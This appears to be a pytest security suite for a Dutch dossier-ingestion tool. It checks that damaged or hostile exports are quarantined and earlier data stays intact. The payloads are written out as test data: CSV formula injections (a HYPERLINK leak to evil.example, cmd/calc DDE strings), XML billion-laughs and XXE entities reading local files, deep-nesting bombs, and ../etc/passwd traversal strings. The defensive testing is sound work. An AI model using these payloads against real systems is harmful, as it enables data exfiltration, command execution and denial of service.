"""Hostile inputs for every installed adapter: each is quarantined with a named reason, in bounded
time, and the data ingested before it stays intact."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from dossierlink.ingest.adapter import Adapter, available_adapters

REPO = Path(__file__).resolve().parents[2]
SAMPLES = REPO / "samples"
CORPUS = REPO.parent / "shared" / "corpus"

ADAPTERS: dict[str, Adapter] = {
    name: a
    for name, a in available_adapters().items()
    if name not in {"mapping", "scan"}  # scan: test_pdf_attacks.py
}


def _org(name: str) -> str | None:
    """Adapters whose format does not name the organisation (inventory) get one, as the CLI would."""
    return None if ADAPTERS[name].organisation else "rechtspraak"


def _sample_for(adapter: Adapter, folder: Path) -> Path | None:
    """The first file under ``folder`` the adapter claims (the corpus is only read, never copied in)."""
    if not folder.is_dir():
        return None
    for f in sorted(folder.rglob("*"))[:2000]:
        if f.is_file():
            try:
                if adapter.identify(f):
                    return f
            except Exception:
                continue
    return None


GENERATED = {"politie", "om", "rechtspraak"}


def adapter_params(names: list[str] | None = None) -> list[Any]:
    """Adapter names as parameters; those that need a corpus file for a base input are marked corpus."""
    out: list[Any] = []
    for name in sorted(names if names is not None else ADAPTERS):
        if name in GENERATED or _sample_for(ADAPTERS[name], SAMPLES) is not None:
            out.append(name)
        else:
            out.append(pytest.param(name, marks=pytest.mark.corpus))
    return out


def base_file(name: str, tmp: Path, make: Any) -> Path:
    """A good input for adapter ``name``: generated where we know the format, else a shipped sample."""
    if name == "politie":
        return make.politie_csv(tmp / "base" / "registraties.csv", range(50, 60))
    if name == "om":
        return make.om_json(tmp / "base" / "zaken.json", range(50, 60))
    if name == "rechtspraak":
        return make.rechtspraak_xml(tmp / "base" / "ECLI.NL.RBROT.2023.9050.xml", 50)
    sample = _sample_for(ADAPTERS[name], SAMPLES) or _sample_for(ADAPTERS[name], CORPUS)
    if sample is None:
        pytest.skip(f"no sample input for adapter {name}")
    target = tmp / "base" / sample.name
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(sample, target)
    return target


def _mid_line(data: bytes) -> int:
    """An offset in the middle of a line in the middle of the file."""
    mid = len(data) // 2
    start = data.rfind(b"\n", 0, mid) + 1
    end = data.find(b"\n", mid)
    end = len(data) if end < 0 else end
    return start + max(1, (end - start) // 2)


def truncated(data: bytes) -> bytes:
    return data[: _mid_line(data)]


def nul_bytes(data: bytes) -> bytes:
    at = _mid_line(data)
    return data[:at] + b"\x00\x00" + data[at:]


def undecodable(data: bytes) -> bytes:
    # 0x81 and 0x8d are undefined in cp1252 too, and invalid UTF-8 starts.
    at = _mid_line(data)
    return data[:at] + b"\x81\x8d\x90" + data[at:]


def utf16_without_bom(data: bytes) -> bytes:
    return data.decode("utf-8", errors="replace").encode("utf-16-le")


def random_garbage(data: bytes) -> bytes:
    return bytes((i * 7919 + 13) % 256 for i in range(4096))


def only_whitespace(data: bytes) -> bytes:
    return b"\n \r\n\t\n"


ATTACKS: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "truncated": (
        truncated,
        r"truncat|malformed|not valid|well-formed|incomplete|unexpected end|fields where",
    ),
    "nul_bytes": (nul_bytes, r"NUL|binary|null|control character|well-formed"),
    "undecodable": (undecodable, r"decod|encod|UTF|well-formed|invalid"),
    "utf16_without_bom": (utf16_without_bom, r"NUL|binary|UTF-16|decod|encod"),
    "random_garbage": (
        random_garbage,
        r"NUL|binary|decod|encod|not valid|well-formed|not an?\b|header|missing|lacks",
    ),
    "only_whitespace": (only_whitespace, r"empty|no header|no column header|not valid|well-formed|missing"),
}


def assert_quarantined(outcome: Any, pattern: str) -> None:
    assert outcome.status == "quarantined", (outcome.status, outcome.reason)
    assert outcome.reason, "a quarantined file must carry a reason"
    assert not outcome.reason.startswith("internal error"), outcome.reason
    assert re.search(pattern, outcome.reason, flags=re.I), (
        f"reason does not name the problem: {outcome.reason}"
    )


def assert_intact(chain: Any, before: dict[str, int], table_counts: Any) -> None:
    after = table_counts(chain.path)
    assert after == before, f"earlier data changed: {before} -> {after}"
    assert chain.db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


# Bugs found by this suite, pinned until fixed (adapter, attack) -> what happens.
KNOWN: dict[tuple[str, str], str] = {}


def damaged_params() -> list[Any]:
    out = []
    for adapter in adapter_params():
        name = adapter if isinstance(adapter, str) else adapter.values[0]
        marks = [] if isinstance(adapter, str) else list(adapter.marks)
        for attack in sorted(ATTACKS):
            extra = (
                [pytest.mark.xfail(strict=True, reason=KNOWN[(name, attack)])]
                if (name, attack) in KNOWN
                else []
            )
            out.append(pytest.param(name, attack, marks=marks + extra, id=f"{name}-{attack}"))
    return out


@pytest.mark.timeout(60)
@pytest.mark.parametrize(("adapter", "attack"), damaged_params())
def test_a_damaged_export_is_quarantined_and_earlier_dossiers_survive(
    adapter: str, attack: str, tmp_path: Path, make: Any, baseline: Any, table_counts: Any
) -> None:
    chain, before = baseline
    good = base_file(adapter, tmp_path, make)
    transform, pattern = ATTACKS[attack]
    bad = tmp_path / "inbox" / good.name
    bad.parent.mkdir()
    bad.write_bytes(transform(good.read_bytes()))
    outcome = chain.ingest_file(bad, adapter=adapter, organisation=_org(adapter), root=bad.parent)
    if attack == "truncated" and outcome.status == "ingested":
        pytest.fail(f"a file cut off mid-line was ingested by {adapter}: {outcome}")
    assert_quarantined(outcome, pattern)
    assert_intact(chain, before, table_counts)


def reread_params() -> list[Any]:
    out = []
    for adapter in adapter_params():
        name = adapter if isinstance(adapter, str) else adapter.values[0]
        marks = [] if isinstance(adapter, str) else list(adapter.marks)
        if (name, "truncated") in KNOWN:
            marks.append(pytest.mark.xfail(strict=True, reason=KNOWN[(name, "truncated")]))
        out.append(pytest.param(name, marks=marks, id=name))
    return out


@pytest.mark.timeout(60)
@pytest.mark.parametrize("adapter", reread_params())
def test_the_same_good_export_is_read_again_after_a_rejection(
    adapter: str, tmp_path: Path, make: Any, baseline: Any
) -> None:
    """A rejection must not poison the ledger: the repaired file is accepted."""
    chain, _ = baseline
    good = base_file(adapter, tmp_path, make)
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    target = inbox / good.name
    target.write_bytes(truncated(good.read_bytes()))
    assert (
        chain.ingest_file(target, adapter=adapter, organisation=_org(adapter), reconcile=False).status
        == "quarantined"
    )
    shutil.copyfile(good, target)
    os.utime(target, (1_700_000_000, 1_700_000_000))
    outcome = chain.ingest_file(target, adapter=adapter, organisation=_org(adapter), reconcile=False)
    assert outcome.status in {"ingested", "duplicate"}, outcome


# --- JSON -----------------------------------------------------------------------------------

JSON_ADAPTERS = sorted(n for n, a in ADAPTERS.items() if "json" in a.formats)


def _json_marker(adapter: Adapter) -> str:
    markers = getattr(adapter, "markers", ()) or ("export",)
    return ", ".join(f'"{m}": {{}}' for m in markers)


@pytest.mark.timeout(60)
@pytest.mark.parametrize("depth", [65, 1000, 200_000])
@pytest.mark.parametrize("adapter", JSON_ADAPTERS)
def test_deeply_nested_json_is_refused(
    adapter: str, depth: int, tmp_path: Path, baseline: Any, table_counts: Any
) -> None:
    chain, before = baseline
    bad = tmp_path / "nested.json"
    bad.write_text("{" + _json_marker(ADAPTERS[adapter]) + ', "zaken": ' + "[" * depth + "]" * depth + "}")
    outcome = chain.ingest_file(bad, adapter=adapter)
    assert_quarantined(outcome, r"nest|deep")
    assert_intact(chain, before, table_counts)


@pytest.mark.timeout(60)
@pytest.mark.parametrize("adapter", JSON_ADAPTERS)
def test_a_json_number_of_a_hundred_thousand_digits_is_refused(
    adapter: str, tmp_path: Path, baseline: Any, table_counts: Any
) -> None:
    chain, before = baseline
    bad = tmp_path / "bignum.json"
    bad.write_text("{" + _json_marker(ADAPTERS[adapter]) + ', "zaken": [' + "9" * 100_000 + "]}")
    outcome = chain.ingest_file(bad, adapter=adapter)
    assert_quarantined(outcome, r"digit|number|limit|integer")
    assert_intact(chain, before, table_counts)


# --- CSV ------------------------------------------------------------------------------------

CSV_ADAPTERS = sorted(n for n, a in ADAPTERS.items() if "csv" in a.formats and getattr(a, "columns", None))

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1;"klik hier")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
]


def _with_cell(good: Path, adapter: Adapter, value: str) -> bytes:
    """The good CSV with ``value`` in the first required text column of the first data row."""
    import csv
    import io

    from dossierlink.ingest.readers import Text, detect_delimiter

    text = good.read_text(encoding="utf-8-sig")
    delim = detect_delimiter(text[:4096])
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delim))
    header = [h.strip().casefold() for h in rows[0]]
    cols: dict[str, Any] = adapter.columns  # type: ignore[attr-defined]
    target = next(
        c for c in cols.values() if type(c) is Text and any(n.casefold() in header for n in c.names)
    )
    idx = next(header.index(n.casefold()) for n in target.names if n.casefold() in header)
    rows[1][idx] = value
    buf = io.StringIO()
    csv.writer(buf, delimiter=delim, lineterminator="\n").writerows(rows)
    return buf.getvalue().encode("utf-8")


@pytest.mark.timeout(60)
@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("adapter", adapter_params(CSV_ADAPTERS))
def test_a_spreadsheet_formula_in_an_export_is_refused(
    adapter: str, formula: str, tmp_path: Path, make: Any, baseline: Any, table_counts: Any
) -> None:
    chain, before = baseline
    good = base_file(adapter, tmp_path, make)
    bad = tmp_path / "inbox" / good.name
    bad.parent.mkdir()
    bad.write_bytes(_with_cell(good, ADAPTERS[adapter], formula))
    outcome = chain.ingest_file(bad, adapter=adapter, organisation=_org(adapter))
    assert_quarantined(outcome, r"formula|injection")
    assert_intact(chain, before, table_counts)


@pytest.mark.timeout(60)
@pytest.mark.parametrize("adapter", adapter_params(CSV_ADAPTERS))
def test_a_nul_byte_deep_in_a_large_csv_is_refused(
    adapter: str, tmp_path: Path, make: Any, baseline: Any, table_counts: Any
) -> None:
    """A NUL after the first 4 KiB must be caught as well as one at the start."""
    chain, before = baseline
    good = base_file(adapter, tmp_path, make)
    data = good.read_bytes()
    lines = data.splitlines(keepends=True)
    while sum(len(x) for x in lines) < 16_384:  # repeat data rows past 4 KiB
        lines.extend(lines[1:])
    body = b"".join(lines)
    bad = tmp_path / "inbox" / good.name
    bad.parent.mkdir()
    bad.write_bytes(body[:12_000] + b"\x00" + body[12_000:])
    outcome = chain.ingest_file(bad, adapter=adapter, organisation=_org(adapter))
    assert_quarantined(outcome, r"NUL|binary|null|control")
    assert_intact(chain, before, table_counts)


# --- XML ------------------------------------------------------------------------------------

XML_ADAPTERS = sorted(n for n, a in ADAPTERS.items() if "xml" in a.formats)


def _root(adapter: Adapter) -> str:
    names = getattr(adapter, "root_names", ()) or ("export",)
    return str(names[0])


def billion_laughs(root: str, secret: Path) -> str:
    ents = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    )
    return f'<?xml version="1.0"?><!DOCTYPE {root} [{ents}]><{root}>&lol9;</{root}>'


def quadratic_blowup(root: str, secret: Path) -> str:
    big = "A" * 100_000
    return f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY a "{big}">]><{root}>{"&a;" * 10_000}</{root}>'


def xxe_local_file(root: str, secret: Path) -> str:
    return (
        f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file://{secret}">]>'
        f"<{root}><titel>&xxe;</titel></{root}>"
    )


def xxe_url(root: str, secret: Path) -> str:
    return (
        f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/leak">]>'
        f"<{root}><titel>&xxe;</titel></{root}>"
    )


def external_dtd(root: str, secret: Path) -> str:
    return f'<?xml version="1.0"?><!DOCTYPE {root} SYSTEM "http://127.0.0.1:9/evil.dtd"><{root}/>'


def parameter_entity(root: str, secret: Path) -> str:
    return (
        f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY % file SYSTEM "file://{secret}">'
        f'<!ENTITY % dtd SYSTEM "http://127.0.0.1:9/x.dtd">%dtd;]><{root}/>'
    )


XML_BOMBS: dict[str, tuple[Callable[[str, Path], str], str]] = {
    "billion_laughs": (billion_laughs, r"DTD|entit"),
    "quadratic_blowup": (quadratic_blowup, r"DTD|entit"),
    "xxe_local_file": (xxe_local_file, r"DTD|entit|external"),
    "xxe_url": (xxe_url, r"DTD|entit|external"),
    "external_dtd": (external_dtd, r"DTD|entit|external"),
    "parameter_entity": (parameter_entity, r"DTD|entit|external"),
}


@pytest.mark.timeout(30)
@pytest.mark.parametrize("bomb", sorted(XML_BOMBS))
@pytest.mark.parametrize("adapter", XML_ADAPTERS)
def test_xml_entities_and_external_references_are_never_resolved(
    adapter: str, bomb: str, tmp_path: Path, baseline: Any, table_counts: Any, no_network: list[Any]
) -> None:
    chain, before = baseline
    secret = tmp_path / "geheim.txt"
    secret.write_text("GEHEIM-WACHTWOORD-4711\n")
    build, pattern = XML_BOMBS[bomb]
    bad = tmp_path / "inbox" / "bom.xml"
    bad.parent.mkdir()
    bad.write_text(build(_root(ADAPTERS[adapter]), secret))
    outcome = chain.ingest_file(bad, adapter=adapter)
    assert_quarantined(outcome, pattern)
    assert no_network == [], "the parser tried to reach the network"
    assert b"GEHEIM-WACHTWOORD" not in Path(chain.path).read_bytes()
    assert "GEHEIM" not in (outcome.reason or "")
    assert_intact(chain, before, table_counts)


@pytest.mark.timeout(60)
@pytest.mark.parametrize("adapter", XML_ADAPTERS)
def test_xml_nested_a_hundred_thousand_deep_ends_cleanly(
    adapter: str, tmp_path: Path, baseline: Any, table_counts: Any
) -> None:
    chain, before = baseline
    root = _root(ADAPTERS[adapter])
    bad = tmp_path / "diep.xml"
    bad.write_text(f"<{root}>" + "<a>" * 100_000 + "</a>" * 100_000 + f"</{root}>")
    outcome = chain.ingest_file(bad, adapter=adapter)
    # Nothing for the chain in it: quarantined with a reason, never a crash or a hang.
    assert_quarantined(outcome, r".")
    assert_intact(chain, before, table_counts)


# --- size -----------------------------------------------------------------------------------

_BIG_LINE_CHILD = r"""
import sys, dossierlink
chain = dossierlink.open(sys.argv[1])
o = chain.ingest_file(sys.argv[2], adapter=sys.argv[3], organisation=sys.argv[4] or None, reconcile=False)
print(o.status)
print(o.reason)
# This process's own peak (VmHWM): ru_maxrss would also count the pytest process it was forked from.
print(next(int(ln.split()[1]) // 1024 for ln in open("/proc/self/status") if ln.startswith("VmHWM:")))
"""


def _write_big_line(path: Path, prefix: bytes, size: int) -> None:
    """A single line of ``size`` bytes, written in chunks (never held in memory)."""
    chunk = b"A" * (1 << 20)
    with path.open("wb") as fh:
        fh.write(prefix)
        left = size - len(prefix)
        while left > 0:
            fh.write(chunk[: min(left, len(chunk))])
            left -= len(chunk)


@pytest.mark.slow
@pytest.mark.timeout(120)
@pytest.mark.parametrize("adapter", adapter_params())
def test_a_hundred_megabyte_single_line_is_refused_in_bounded_memory(
    adapter: str, tmp_path: Path, make: Any, baseline: Any, table_counts: Any
) -> None:
    chain, before = baseline
    good = base_file(adapter, tmp_path, make)
    head = good.read_bytes().split(b"\n", 1)[0][:200]
    bad = tmp_path / "inbox" / good.name
    bad.parent.mkdir()
    _write_big_line(bad, head, 100 * (1 << 20))
    proc = subprocess.run(
        [sys.executable, "-c", _BIG_LINE_CHILD, str(chain.path), str(bad), adapter, _org(adapter) or ""],
        capture_output=True,
        text=True,
        timeout=110,
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    status, reason, max_rss_mb = proc.stdout.strip().splitlines()[-3:]
    assert status == "quarantined", reason
    assert re.search(r"limit|too long|too large|MiB|bytes|size", reason), reason
    assert int(max_rss_mb) < 400, f"{adapter} used {max_rss_mb} MB on a 100 MB line"
    assert_intact(chain, before, table_counts)


# --- file system ------------------------------------------------------------------------------


@pytest.mark.timeout(60)
def test_symlinks_out_of_an_inbox_are_quarantined_not_followed(
    tmp_path: Path, make: Any, baseline: Any, table_counts: Any
) -> None:
    chain, before = baseline
    outside = tmp_path / "outside"
    secret_export = make.politie_csv(outside / "andermans.csv", range(700, 705))
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / "link-naar-buiten.csv").symlink_to(secret_export)
    (inbox / "map-naar-buiten").symlink_to(outside, target_is_directory=True)
    (inbox / "nul.csv").symlink_to("/dev/zero")
    (inbox / "weg.csv").symlink_to(tmp_path / "bestaat-niet.csv")
    (inbox / "lus-a.csv").symlink_to(inbox / "lus-b.csv")
    (inbox / "lus-b.csv").symlink_to(inbox / "lus-a.csv")
    fifo = inbox / "pijp.csv"
    os.mkfifo(fifo)
    (inbox / "pijp-link.csv").symlink_to(fifo)
    summary = chain.ingest([inbox])
    by_name = {Path(o.path).name: o for o in summary.outcomes}
    assert by_name["link-naar-buiten.csv"].status == "quarantined"
    assert "outside" in (by_name["link-naar-buiten.csv"].reason or "")
    assert by_name["map-naar-buiten"].status == "quarantined"
    assert by_name["nul.csv"].status == "quarantined"
    assert by_name["weg.csv"].status == "quarantined"
    for name in ("lus-a.csv", "lus-b.csv"):
        assert by_name[name].status == "quarantined"
    assert by_name["pijp-link.csv"].status == "quarantined"
    assert summary.ingested == 0
    assert_intact(chain, before, table_counts)


@pytest.mark.timeout(60)
def test_a_symlink_loop_is_named_as_such_not_as_an_internal_error(tmp_path: Path, baseline: Any) -> None:
    chain, _ = baseline
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / "lus-a.csv").symlink_to(inbox / "lus-b.csv")
    (inbox / "lus-b.csv").symlink_to(inbox / "lus-a.csv")
    outcome = chain.ingest([inbox]).outcomes[0]
    assert_quarantined(outcome, r"symlink|loop")


TRAVERSALS = [
    "../../etc/passwd",
    "/etc/passwd",
    "..\\..\\..\\etc\\passwd",
    "docs/../../../../../../etc/passwd",
    "link-naar-buiten.pdf",
]


@pytest.mark.timeout(60)
@pytest.mark.parametrize("ref", TRAVERSALS)
def test_a_document_reference_that_escapes_the_export_folder_is_not_read(
    ref: str, tmp_path: Path, make: Any, baseline: Any
) -> None:
    """The export is kept (its other data is good); the reference is refused with a warning."""
    chain, _ = baseline
    outside = tmp_path / "outside"
    outside.mkdir()
    secret_pdf = outside / "geheim.pdf"
    secret_pdf.write_bytes(b"%PDF-1.4\n% GEHEIM-4711\n%%EOF\n")
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / "link-naar-buiten.pdf").symlink_to(secret_pdf)
    export = make.politie_csv(inbox / "registraties.csv", [900], bestand=ref)
    outcome = chain.ingest_file(export, root=inbox, reconcile=False)
    assert outcome.status == "ingested", outcome.reason
    import hashlib

    passwd_sha = hashlib.sha256(Path("/etc/passwd").read_bytes()).hexdigest()
    secret_sha = hashlib.sha256(secret_pdf.read_bytes()).hexdigest()
    stored = {r[0] for r in chain.db.execute("SELECT sha256 FROM documents WHERE sha256 IS NOT NULL")}
    assert passwd_sha not in stored and secret_sha not in stored
    payloads = " ".join(r[0] for r in chain.db.execute("SELECT payload FROM records"))
    assert "root:x:0:0" not in payloads and "GEHEIM-4711" not in payloads
    assert re.search(r"outside|refused|traversal", payloads), "the refused reference leaves no warning"


@pytest.mark.timeout(60)
def test_an_empty_file_and_a_directory_named_like_an_export_are_quarantined(
    tmp_path: Path, baseline: Any, table_counts: Any
) -> None:
    chain, before = baseline
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / "leeg.csv").write_bytes(b"")
    outcome = chain.ingest_file(inbox / "leeg.csv")
    assert_quarantined(outcome, r"empty")
    (inbox / "map.json").mkdir()
    outcome = chain.ingest_file(inbox / "map.json")
    assert_quarantined(outcome, r"regular file|directory")
    assert_intact(chain, before, table_counts)
